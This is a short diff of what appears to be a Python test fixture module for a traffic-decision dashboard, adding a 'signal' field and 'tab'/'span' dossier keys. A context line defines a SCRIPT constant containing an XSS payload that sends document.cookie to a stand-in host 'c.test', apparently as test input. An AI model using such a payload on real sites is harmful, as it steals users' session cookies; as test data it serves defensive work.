@@ -19,7 +19,7 @@ SCRIPT = "/v1/generate?style=<script>fetch('//c.test/'+document.cookie)</script>
 
 
 def reason(source: str, value: str, words: str, normal: str, signed: float) -> CaseReason:
-    return CaseReason(kind="model", source=source, value=value, words=words, normal=normal, signed=signed)
+    return CaseReason(kind="model", source=source, value=value, words=words, normal=normal, signed=signed, signal=source)
 
 
 AGAINST = (
@@ -225,6 +225,8 @@ def dossier(**more: object) -> Dossier:
             record="7KQ2-M4X1",
             at=NOW,
         ),
+        "tab": "requests",
+        "span": "48h",
         "decided": {"allow": 3_604.0, "throttle": 1_208.0},
         "bins": bins(),
         "addresses": {step: max(1, round(140 * exp((step - 47) / 5))) for step in range(48)},
